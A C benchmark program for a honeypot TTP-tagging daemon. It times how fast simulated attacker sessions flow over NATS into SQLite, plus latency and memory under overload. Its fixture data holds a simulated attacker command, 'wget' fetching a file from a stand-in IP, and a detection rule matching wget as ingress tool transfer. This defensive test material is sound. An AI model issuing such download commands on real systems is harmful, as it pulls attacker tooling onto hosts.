@@ -1,0 +1,737 @@
+/*
+ * bench_bus: ttpd end to end on NATS.
+ *
+ * Starts its own nats-server on a free loopback port and the real
+ * host/ttpd daemon, publishes N attacker.session.ended envelopes (one
+ * "wget" command each, so one tag per event) and measures, for core and
+ * JetStream mode:
+ *   - events/s into SQLite at full publishing speed (first publish to the
+ *     last row committed);
+ *   - the latency from publish to the arrival of the event's ttp.tagged
+ *     (published right after the commit), p50 and p99, at full speed and
+ *     paced at 10 000 events/s;
+ *   - the daemon's peak resident memory.
+ * In the same run it prints the raw ceilings: plain NATS pub/sub, JetStream
+ * fetch(1000)+ack, SQLite batched insert, so the ratio is visible.
+ *
+ * Then it overloads the daemon (core, then JetStream) for S seconds and
+ * samples its resident memory, which must stay flat.
+ *
+ *   bench_bus [N [S]]     (defaults 100000 and 20; env BENCH_BUS_N and
+ *                         BENCH_BUS_OVERLOAD_S too; S < 4 skips it)
+ *
+ * Figures depend on the machine and on what else runs on it.
+ */
+#include "config.h"
+
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <sqlite3.h>
+#include <stdatomic.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/prctl.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#include <nats/nats.h>
+
+#include "store.h"
+#include "tag.h"
+
+static char dir[64];
+static char url[128];
+static pid_t nats_pid, ttpd_pid;
+
+static int64_t
+now_ns(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (int64_t)ts.tv_sec * 1000000000 + ts.tv_nsec;
+}
+
+static void
+msleep(int ms)
+{
+	struct timespec ts = { ms / 1000, (long)(ms % 1000) * 1000000L };
+
+	nanosleep(&ts, NULL);
+}
+
+static void
+die(const char *fmt, const char *arg)
+{
+	fprintf(stderr, "bench_bus: ");
+	fprintf(stderr, fmt, arg);
+	fprintf(stderr, "\n");
+	exit(1);
+}
+
+static void
+stop(pid_t *pid)
+{
+	int i;
+
+	if (*pid <= 0)
+		return;
+	kill(*pid, SIGTERM);
+	for (i = 0; i < 300 && waitpid(*pid, NULL, WNOHANG) == 0; i++)
+		msleep(50);
+	if (i == 300) {
+		kill(*pid, SIGKILL);
+		waitpid(*pid, NULL, 0);
+	}
+	*pid = 0;
+}
+
+static void
+cleanup(void)
+{
+	char cmd[512];
+
+	stop(&ttpd_pid);
+	stop(&nats_pid);
+	if (getenv("BENCH_BUS_KEEP") != NULL)
+		fprintf(stderr, "kept %s\n", dir);
+	else if (strncmp(dir, "/tmp/ttpd-bench.", 16) == 0) {
+		snprintf(cmd, sizeof cmd, "rm -rf '%s'", dir);
+		if (system(cmd) != 0)
+			fprintf(stderr, "could not remove %s\n", dir);
+	}
+}
+
+static void
+on_signal(int sig)
+{
+	(void)sig;
+	exit(1); /* atexit cleanup */
+}
+
+static pid_t
+spawn(const char *const *argv, const char *log)
+{
+	pid_t pid = fork();
+	int fd;
+
+	if (pid < 0)
+		die("fork: %s", strerror(errno));
+	if (pid == 0) {
+		prctl(PR_SET_PDEATHSIG, SIGKILL);
+		if ((fd = open(log, O_WRONLY | O_CREAT | O_APPEND, 0644)) >= 0) {
+			dup2(fd, 1);
+			dup2(fd, 2);
+		}
+		execv(argv[0], (char *const *)(uintptr_t)argv);
+		_exit(127);
+	}
+	return pid;
+}
+
+static void
+start_nats(void)
+{
+	char store[512], log[512], ports[512], buf[512], *p, *q;
+	const char *argv[] = { "/usr/sbin/nats-server", "-a", "127.0.0.1",
+		"-p", "-1", "-m", "-1", "-js", "-sd", store,
+		"--ports_file_dir", dir, NULL };
+	FILE *fp;
+	int i;
+
+	snprintf(store, sizeof store, "%s/store", dir);
+	snprintf(log, sizeof log, "%s/nats.log", dir);
+	nats_pid = spawn(argv, log);
+	snprintf(ports, sizeof ports, "%s/nats-server_%ld.ports", dir,
+	    (long)nats_pid);
+	for (i = 0; i < 400; i++, msleep(25)) {
+		if ((fp = fopen(ports, "r")) == NULL)
+			continue;
+		buf[fread(buf, 1, sizeof buf - 1, fp)] = '\0';
+		fclose(fp);
+		if ((p = strstr(buf, "\"nats\":[\"")) != NULL &&
+		    (q = strchr(p + 9, '"')) != NULL) {
+			*q = '\0';
+			snprintf(url, sizeof url, "%s", p + 9);
+			return;
+		}
+	}
+	die("nats-server did not start (see %s)", log);
+}
+
+static natsConnection *
+connect_nats(void)
+{
+	natsConnection *nc;
+	natsOptions *o;
+
+	natsOptions_Create(&o);
+	natsOptions_SetURL(o, url);
+	natsOptions_SetReconnectBufSize(o, 64 * 1024 * 1024);
+	natsOptions_SetMaxPendingMsgs(o, 1000000);
+	if (natsConnection_Connect(&nc, o) != NATS_OK)
+		die("cannot connect to %s", url);
+	natsOptions_Destroy(o);
+	return nc;
+}
+
+static char *
+session_env(int n)
+{
+	char *s;
+
+	if (asprintf(&s,
+	    "{\"v\":1,\"id\":\"%032x\",\"topic\":\"attacker.session.ended\","
+	    "\"type\":\"session.ended\",\"ts\":1700000000.5,\"payload\":{"
+	    "\"session_id\":\"sess-%d\",\"attacker_uuid\":\"att-%d\","
+	    "\"attacker_ip\":\"10.0.0.1\",\"decky_id\":\"decky-1\","
+	    "\"service\":\"ssh\",\"commands\":[{\"id\":\"sess-%d#0\","
+	    "\"command_text\":\"wget http://198.51.100.7/x%d\"}]}}",
+	    (unsigned)n, n, n % 1000, n, n) < 0)
+		die("%s", "out of memory");
+	return s;
+}
+
+/* ------------------------------------------------------- ceilings */
+
+static atomic_long core_recv;
+
+static void
+count_cb(natsConnection *nc, natsSubscription *sub, natsMsg *m, void *c)
+{
+	atomic_fetch_add(&core_recv, 1);
+	natsMsg_Destroy(m);
+}
+
+static void
+ceiling_core(int n)
+{
+	natsConnection *pub = connect_nats(), *subc = connect_nats();
+	natsSubscription *sub;
+	char *env = session_env(1);
+	int64_t t0, t1;
+	int i;
+
+	natsConnection_Subscribe(&sub, subc, "bench.core", count_cb, NULL);
+	natsSubscription_SetPendingLimits(sub, -1, -1);
+	natsConnection_Flush(subc);
+	atomic_store(&core_recv, 0);
+	t0 = now_ns();
+	for (i = 0; i < n; i++)
+		natsConnection_PublishString(pub, "bench.core", env);
+	natsConnection_Flush(pub);
+	while (atomic_load(&core_recv) < n && now_ns() - t0 < 60e9)
+		msleep(1);
+	t1 = now_ns();
+	printf("ceiling   nats core publish -> subscriber    %9.0f msg/s\n",
+	    (double)atomic_load(&core_recv) / ((double)(t1 - t0) / 1e9));
+	natsSubscription_Destroy(sub);
+	natsConnection_Destroy(pub);
+	natsConnection_Destroy(subc);
+	free(env);
+}
+
+static void
+ceiling_js(int n)
+{
+	natsConnection *nc = connect_nats();
+	natsSubscription *sub;
+	jsCtx *js;
+	jsOptions jo;
+	jsStreamConfig sc;
+	jsConsumerConfig cc;
+	jsSubOptions so;
+	natsMsgList list;
+	const char *subj[] = { "bench.js" };
+	char *env = session_env(1);
+	int64_t t0, t1;
+	int i, got = 0;
+
+	jsOptions_Init(&jo);
+	jo.PublishAsync.MaxPending = 4000;
+	natsConnection_JetStream(&js, nc, &jo);
+	jsStreamConfig_Init(&sc);
+	sc.Name = "BENCHCEIL";
+	sc.Subjects = subj;
+	sc.SubjectsLen = 1;
+	if (js_AddStream(NULL, js, &sc, NULL, NULL) != NATS_OK)
+		die("%s", "cannot create the ceiling stream");
+	for (i = 0; i < n; i++)
+		js_PublishAsync(js, "bench.js", env, (int)strlen(env), NULL);
+	js_PublishAsyncComplete(js, NULL);
+	jsConsumerConfig_Init(&cc);
+	cc.Durable = "ceil";
+	cc.AckPolicy = js_AckExplicit;
+	cc.MaxAckPending = 4000;
+	js_AddConsumer(NULL, js, "BENCHCEIL", &cc, NULL, NULL);
+	jsSubOptions_Init(&so);
+	so.Stream = "BENCHCEIL";
+	so.Consumer = "ceil";
+	if (js_PullSubscribe(&sub, js, "bench.js", "ceil", NULL, &so, NULL) !=
+	    NATS_OK)
+		die("%s", "cannot bind the ceiling consumer");
+	t0 = now_ns();
+	while (got < n && now_ns() - t0 < 120e9) {
+		if (natsSubscription_Fetch(&list, sub, 1000, 1000, NULL) !=
+		    NATS_OK)
+			continue;
+		for (i = 0; i < list.Count; i++)
+			natsMsg_Ack(list.Msgs[i], NULL);
+		got += list.Count;
+		natsMsgList_Destroy(&list);
+	}
+	natsConnection_Flush(nc);
+	t1 = now_ns();
+	printf("ceiling   jetstream fetch(1000) + ack        %9.0f msg/s\n",
+	    (double)got / ((double)(t1 - t0) / 1e9));
+	natsSubscription_Destroy(sub);
+	js_DeleteStream(js, "BENCHCEIL", NULL, NULL);
+	jsCtx_Destroy(js);
+	natsConnection_Destroy(nc);
+	free(env);
+}
+
+static void
+ceiling_sqlite(int n)
+{
+	struct store *s;
+	struct tag *tags;
+	char path[512], err[512], id[64];
+	int64_t t0, t1;
+	int i, k;
+
+	snprintf(path, sizeof path, "%s/ceiling.db", dir);
+	if ((s = store_open(path, NULL, err, sizeof err)) == NULL)
+		die("%s", err);
+	tags = calloc(1000, sizeof *tags);
+	t0 = now_ns();
+	for (i = 0; i < n; i += 1000) {
+		for (k = 0; k < 1000; k++) {
+			struct tag *t = &tags[k];
+
+			snprintf(id, sizeof id, "sess-%d#0", i + k);
+			tag_uuid("command", id, "TI0001", 1, "T1105", NULL,
+			    t->uuid);
+			/* the store only reads these */
+			t->source_kind = (char *)(uintptr_t)"command";
+			t->source_id = id;
+			t->attacker_uuid = (char *)(uintptr_t)"att-1";
+			t->tactic = (char *)(uintptr_t)"TA0011";
+			t->technique_id = (char *)(uintptr_t)"T1105";
+			t->confidence = 0.8;
+			t->rule_id = (char *)(uintptr_t)"TI0001";
+			t->rule_version = 1;
+			t->evidence = (char *)(uintptr_t)"{}";
+			t->attack_release = (char *)(uintptr_t)"v15.1";
+			tag_format_time(tag_now_ns(), t->created_at);
+		}
+		store_begin(s);
+		store_insert_tags(s, tags, 1000, NULL);
+		store_commit(s);
+	}
+	t1 = now_ns();
+	printf("ceiling   sqlite insert, 1000 rows per txn   %9.0f rows/s "
+	    "(DECNET's ttp_tag: random uuid key, 13 indexes)\n",
+	    (double)n / ((double)(t1 - t0) / 1e9));
+	free(tags);
+	store_close(s);
+}
+
+/* ------------------------------------------------------ the daemon */
+
+static int64_t *pub_ns, *tag_ns;
+static int nevents;
+static atomic_long tagged;
+
+static void
+tagged_cb(natsConnection *nc, natsSubscription *sub, natsMsg *m, void *c)
+{
+	const char *p = strstr(natsMsg_GetData(m), "\"session_id\":\"sess-");
+	int64_t t = now_ns();
+	long i;
+
+	if (p != NULL) {
+		i = strtol(p + 19, NULL, 10);
+		if (i >= 0 && i < nevents && tag_ns[i] == 0) {
+			tag_ns[i] = t;
+			atomic_fetch_add(&tagged, 1);
+		}
+	}
+	natsMsg_Destroy(m);
+}
+
+static long
+rows(const char *db)
+{
+	sqlite3 *h;
+	sqlite3_stmt *st;
+	long n = -1;
+
+	if (sqlite3_open_v2(db, &h, SQLITE_OPEN_READONLY, NULL) == SQLITE_OK &&
+	    sqlite3_prepare_v2(h, "SELECT count(*) FROM ttp_tag", -1, &st,
+	    NULL) == SQLITE_OK) {
+		sqlite3_busy_timeout(h, 2000);
+		if (sqlite3_step(st) == SQLITE_ROW)
+			n = sqlite3_column_int64(st, 0);
+		sqlite3_finalize(st);
+	}
+	sqlite3_close(h);
+	return n;
+}
+
+static long
+max_rss_kib(pid_t pid)
+{
+	char path[64], line[256];
+	FILE *fp;
+	long kib = -1;
+
+	snprintf(path, sizeof path, "/proc/%ld/status", (long)pid);
+	if ((fp = fopen(path, "r")) == NULL)
+		return -1;
+	while (fgets(line, sizeof line, fp) != NULL)
+		if (strncmp(line, "VmHWM:", 6) == 0)
+			kib = strtol(line + 6, NULL, 10);
+	fclose(fp);
+	return kib;
+}
+
+static long
+rss_kib(pid_t pid)
+{
+	char path[64], line[256];
+	FILE *fp;
+	long kib = -1;
+
+	snprintf(path, sizeof path, "/proc/%ld/status", (long)pid);
+	if ((fp = fopen(path, "r")) == NULL)
+		return -1;
+	while (fgets(line, sizeof line, fp) != NULL)
+		if (strncmp(line, "VmRSS:", 6) == 0)
+			kib = strtol(line + 6, NULL, 10);
+	fclose(fp);
+	return kib;
+}
+
+static int
+cmp_i64(const void *a, const void *b)
+{
+	int64_t x = *(const int64_t *)a, y = *(const int64_t *)b;
+
+	return x < y ? -1 : x > y;
+}
+
+/*
+ * One run: a fresh database and daemon, n events at `rate` per second
+ * (0: as fast as possible).
+ */
+static void
+run(const char *mode, int n, int rate, int run_no)
+{
+	char sub[300], conf[512], db[512], log[512], bin[512], *text;
+	const char *bdir = getenv("TTPD_BUILDDIR");
+	const char *argv[] = { bin, "-f", "-c", conf, NULL };
+	natsConnection *pubc, *subc;
+	natsSubscription *tsub, *hsub;
+	natsMsg *m;
+	jsCtx *js = NULL;
+	int64_t t0, last_progress, end_ns = 0, *lat;
+	long r, prev = -1, rss;
+	int i, nlat = 0, js_mode = strcmp(mode, "jetstream") == 0;
+	FILE *fp;
+
+	snprintf(sub, sizeof sub, "%s/run%d", dir, run_no);
+	mkdir(sub, 0755);
+	snprintf(conf, sizeof conf, "%s/ttpd.conf", sub);
+	snprintf(db, sizeof db, "%s/ttpd.db", sub);
+	snprintf(log, sizeof log, "%s/ttpd.log", sub);
+	snprintf(bin, sizeof bin, "%s/host/ttpd", bdir);
+	if ((fp = fopen(conf, "w")) == NULL)
+		die("cannot write %s", conf);
+	fprintf(fp, "store: { path = \"%s\"; batch_size = 10000; };\n"
+	    "rules: { dirs = [ \"%s/rules\" ]; };\n"
+	    "plugins: { dir = \"%s/plugins/.libs\"; load = ( { name = "
+	    "\"rule_engine\"; } ); };\n"
+	    "log: { level = \"notice\"; };\n"
+	    "bus: { servers = [ \"%s\" ]; mode = \"%s\"; heartbeat_s = 1; "
+	    "stream = \"BENCH%d\"; subjects = [ \"attacker.session.ended\" ]; "
+	    "};\n", db, dir, bdir, url, mode, run_no);
+	fclose(fp);
+
+	pubc = connect_nats();
+	subc = connect_nats();
+	natsConnection_SubscribeSync(&hsub, subc, "system.ttp.health");
+	nevents = n;
+	pub_ns = calloc((size_t)n, sizeof *pub_ns);
+	tag_ns = calloc((size_t)n, sizeof *tag_ns);
+	lat = calloc((size_t)n, sizeof *lat);
+	atomic_store(&tagged, 0);
+	natsConnection_Subscribe(&tsub, subc, "ttp.tagged", tagged_cb, NULL);
+	natsSubscription_SetPendingLimits(tsub, -1, -1);
+	natsConnection_Flush(subc);
+	ttpd_pid = spawn(argv, log);
+	if (natsSubscription_NextMsg(&m, hsub, 20000) != NATS_OK)
+		die("ttpd did not start (see %s)", log);
+	natsMsg_Destroy(m);
+	if (js_mode) {
+		jsOptions jo;
+
+		jsOptions_Init(&jo);
+		jo.PublishAsync.MaxPending = 4000;
+		natsConnection_JetStream(&js, pubc, &jo);
+	}
+
+	t0 = now_ns();
+	for (i = 0; i < n; i++) {
+		char *env = session_env(i);
+
+		if (rate > 0) {
+			/* sleep, not spin: the daemon needs the cores */
+			int64_t due = t0 + (int64_t)i * 1000000000 / rate;
+			int64_t ahead = due - now_ns();
+
+			if (ahead > 0) {
+				struct timespec ts = { 0, (long)ahead };
+
+				nanosleep(&ts, NULL);
+			}
+		}
+		pub_ns[i] = now_ns();
+		if (js_mode)
+			js_PublishAsync(js, "attacker.session.ended", env,
+			    (int)strlen(env), NULL);
+		else
+			natsConnection_PublishString(pubc,
+			    "attacker.session.ended", env);
+		free(env);
+	}
+	if (js_mode)
+		js_PublishAsyncComplete(js, NULL);
+	natsConnection_Flush(pubc);
+	/* until every tag is in, or nothing moves for 3 s */
+	last_progress = now_ns();
+	for (;;) {
+		r = rows(db);
+		if (r != prev) {
+			prev = r;
+			last_progress = now_ns();
+			end_ns = last_progress;
+		}
+		if (r >= n || now_ns() - last_progress > 3000000000LL)
+			break;
+		msleep(5);
+	}
+	msleep(200); /* the last ttp.tagged */
+	rss = max_rss_kib(ttpd_pid);
+	for (i = 0; i < n; i++)
+		if (tag_ns[i] > 0)
+			lat[nlat++] = tag_ns[i] - pub_ns[i];
+	qsort(lat, (size_t)nlat, sizeof *lat, cmp_i64);
+	if (rate == 0)
+		printf("%-9s full speed: %8.0f events/s into SQLite (%ld of %d "
+		    "rows in %.2f s)", mode, (double)prev /
+		    ((double)(end_ns - t0) / 1e9), prev, n,
+		    (double)(end_ns - t0) / 1e9);
+	else
+		printf("%-9s paced %d/s: %ld of %d rows", mode, rate, prev, n);
+	if (nlat > 0)
+		printf("; publish->ttp.tagged p50 %.1f ms p99 %.1f ms",
+		    (double)lat[nlat / 2] / 1e6,
+		    (double)lat[(size_t)((double)nlat * 0.99)] / 1e6);
+	printf("; ttpd peak RSS %.1f MiB\n", (double)rss / 1024.0);
+	stop(&ttpd_pid);
+	if ((text = malloc(4096)) != NULL) {
+		/* the daemon's own totals line */
+		if ((fp = fopen(log, "r")) != NULL) {
+			while (fgets(text, 4096, fp) != NULL)
+				if (strstr(text, "stopped:") != NULL)
+					printf("          %s", text);
+			fclose(fp);
+		}
+		free(text);
+	}
+	if (js != NULL) {
+		char stream[32];
+
+		/* the next run's stream takes the same subjects */
+		snprintf(stream, sizeof stream, "BENCH%d", run_no);
+		js_DeleteStream(js, stream, NULL, NULL);
+		jsCtx_Destroy(js);
+	}
+	natsSubscription_Destroy(tsub);
+	natsSubscription_Destroy(hsub);
+	natsConnection_Destroy(pubc);
+	natsConnection_Destroy(subc);
+	free(pub_ns);
+	free(tag_ns);
+	free(lat);
+}
+
+/*
+ * Overload: publish as fast as possible for `secs` seconds and sample the
+ * daemon's resident memory every second; it must stay flat (bounded
+ * queue in core mode, bounded fetches in JetStream mode).
+ */
+static void
+overload(const char *mode, int secs, int run_no)
+{
+	char sub[300], conf[512], db[512], log[512], bin[512], line[4096];
+	const char *bdir = getenv("TTPD_BUILDDIR");
+	const char *argv[] = { bin, "-f", "-c", conf, NULL };
+	natsConnection *pubc, *subc;
+	natsSubscription *hsub;
+	natsMsg *m;
+	jsCtx *js = NULL;
+	long rss[4] = { 0, 0, 0, 0 }, r, maxr = 0, published = 0;
+	int64_t t0, next;
+	int sec = 0, js_mode = strcmp(mode, "jetstream") == 0;
+	FILE *fp;
+
+	snprintf(sub, sizeof sub, "%s/run%d", dir, run_no);
+	mkdir(sub, 0755);
+	snprintf(conf, sizeof conf, "%s/ttpd.conf", sub);
+	snprintf(db, sizeof db, "%s/ttpd.db", sub);
+	snprintf(log, sizeof log, "%s/ttpd.log", sub);
+	snprintf(bin, sizeof bin, "%s/host/ttpd", bdir);
+	if ((fp = fopen(conf, "w")) == NULL)
+		die("cannot write %s", conf);
+	fprintf(fp, "store: { path = \"%s\"; };\n"
+	    "rules: { dirs = [ \"%s/rules\" ]; };\n"
+	    "plugins: { dir = \"%s/plugins/.libs\"; load = ( { name = "
+	    "\"rule_engine\"; } ); };\n"
+	    "log: { level = \"notice\"; };\n"
+	    "bus: { servers = [ \"%s\" ]; mode = \"%s\"; heartbeat_s = 1; "
+	    "stream = \"OVER%d\"; subjects = [ \"attacker.session.ended\" ]; "
+	    "stream_retention = \"workqueue\"; };\n", db, dir, bdir, url,
+	    mode, run_no);
+	fclose(fp);
+	pubc = connect_nats();
+	subc = connect_nats();
+	natsConnection_SubscribeSync(&hsub, subc, "system.ttp.health");
+	ttpd_pid = spawn(argv, log);
+	if (natsSubscription_NextMsg(&m, hsub, 20000) != NATS_OK)
+		die("ttpd did not start (see %s)", log);
+	natsMsg_Destroy(m);
+	natsSubscription_Destroy(hsub);
+	if (js_mode) {
+		jsOptions jo;
+
+		jsOptions_Init(&jo);
+		jo.PublishAsync.MaxPending = 4000;
+		natsConnection_JetStream(&js, pubc, &jo);
+	}
+	t0 = now_ns();
+	next = t0 + 1000000000LL;
+	while (sec < secs) {
+		int k;
+
+		for (k = 0; k < 500; k++, published++) {
+			char *env = session_env((int)(published % 2000000000));
+
+			if (js_mode)
+				js_PublishAsync(js, "attacker.session.ended",
+				    env, (int)strlen(env), NULL);
+			else
+				natsConnection_PublishString(pubc,
+				    "attacker.session.ended", env);
+			free(env);
+		}
+		if (now_ns() >= next) {
+			next += 1000000000LL;
+			sec++;
+			r = rss_kib(ttpd_pid);
+			if (r > maxr)
+				maxr = r;
+			if (sec == 1)
+				rss[0] = r;
+			if (sec == secs / 4)
+				rss[1] = r;
+			if (sec == secs / 2)
+				rss[2] = r;
+			if (sec == secs)
+				rss[3] = r;
+		}
+	}
+	if (js_mode)
+		js_PublishAsyncComplete(js, NULL);
+	natsConnection_Flush(pubc);
+	printf("%-9s overload %d s: %ld published; ttpd RSS at 1 s %.1f, "
+	    "%d s %.1f, %d s %.1f, %d s %.1f MiB (max %.1f); %ld rows\n",
+	    mode, secs, published, rss[0] / 1024.0, secs / 4,
+	    rss[1] / 1024.0, secs / 2, rss[2] / 1024.0, secs,
+	    rss[3] / 1024.0, maxr / 1024.0, rows(db));
+	stop(&ttpd_pid);
+	if ((fp = fopen(log, "r")) != NULL) {
+		while (fgets(line, sizeof line, fp) != NULL)
+			if (strstr(line, "stopped:") != NULL)
+				printf("          %s", line);
+		fclose(fp);
+	}
+	if (js != NULL) {
+		char stream[32];
+
+		snprintf(stream, sizeof stream, "OVER%d", run_no);
+		js_DeleteStream(js, stream, NULL, NULL);
+		jsCtx_Destroy(js);
+	}
+	natsConnection_Destroy(pubc);
+	natsConnection_Destroy(subc);
+}
+
+int
+main(int argc, char **argv)
+{
+	char tmpl[] = "/tmp/ttpd-bench.XXXXXX", path[512];
+	const char *env = getenv("BENCH_BUS_N");
+	const char *ov = getenv("BENCH_BUS_OVERLOAD_S");
+	int n = argc > 1 ? atoi(argv[1]) : env != NULL ? atoi(env) : 100000;
+	int overload_s = argc > 2 ? atoi(argv[2]) : ov != NULL ? atoi(ov) :
+	    20;
+	FILE *fp;
+
+	if (n < 1000)
+		n = 1000;
+	if (getenv("TTPD_BUILDDIR") == NULL)
+		die("%s", "set TTPD_BUILDDIR (make bench does)");
+	if (access("/usr/sbin/nats-server", X_OK) != 0)
+		die("%s", "/usr/sbin/nats-server is missing (apt-get install "
+		    "nats-server)");
+	if (mkdtemp(tmpl) == NULL)
+		die("mkdtemp: %s", strerror(errno));
+	snprintf(dir, sizeof dir, "%s", tmpl);
+	atexit(cleanup);
+	signal(SIGINT, on_signal);
+	signal(SIGTERM, on_signal);
+	snprintf(path, sizeof path, "%s/rules", dir);
+	mkdir(path, 0755);
+	snprintf(path, sizeof path, "%s/rules/TI0001.yaml", dir);
+	if ((fp = fopen(path, "w")) == NULL)
+		die("cannot write %s", path);
+	fputs("rule_id: TI0001\nrule_version: 1\nname: wget\n"
+	    "description: bench\napplies_to: [command]\n"
+	    "match:\n  field: command_text\n  pattern: '\\bwget\\b'\n"
+	    "emits:\n  - tactic: TA0011\n    technique_id: T1105\n"
+	    "    confidence: 0.8\nevidence_fields: [command_text]\n", fp);
+	fclose(fp);
+	start_nats();
+	printf("bench_bus: N=%d session envelopes (one command, one tag "
+	    "each); nats-server, publisher and ttpd on this machine "
+	    "(figures from a shared machine vary by tens of %%)\n", n);
+	ceiling_core(n);
+	ceiling_js(n);
+	ceiling_sqlite(n);
+	run("core", n, 0, 1);
+	run("core", n / 4 > 30000 ? 30000 : n / 4, 10000, 2);
+	run("jetstream", n, 0, 3);
+	run("jetstream", n / 4 > 30000 ? 30000 : n / 4, 10000, 4);
+	if (overload_s >= 4) {
+		overload("core", overload_s, 5);
+		overload("jetstream", overload_s, 6);
+	}
+	nats_Close();
+	return 0;
+}
